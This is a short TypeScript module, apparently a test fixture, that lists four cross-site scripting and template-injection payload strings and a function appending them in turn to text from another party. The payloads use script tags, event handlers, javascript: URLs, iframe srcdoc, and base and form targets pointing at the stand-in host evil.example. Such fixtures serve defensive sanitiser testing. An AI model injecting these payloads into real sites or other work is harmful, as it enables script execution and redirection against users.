/** Closes attributes of both kinds and every element whose content is no markup; then what runs or leads away. */
export const markup = [
  `'"></textarea></title></style></script><script>alert(1)</script><img src=x onerror=alert(1)>`,
  `"onfocus="alert(1)" autofocus x="<svg/onload=alert(1)><base href=//evil.example><meta http-equiv=refresh content=0>`,
  `javascript:alert(1)//'"><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><a href=javascript:alert(1)>`,
  `\u202e<form action=//evil.example><button formaction=javascript:alert(1)>{{7*7}}\${7*7}`,
] as const;

/** Puts markup behind each text that another party writes, one kind after the other. */
export function hostileText(): (text: string) => string {
  let turn = 0;
  return (text) => {
    turn += 1;
    return `${text} ${markup[turn % markup.length] ?? ''}`;
  };
}
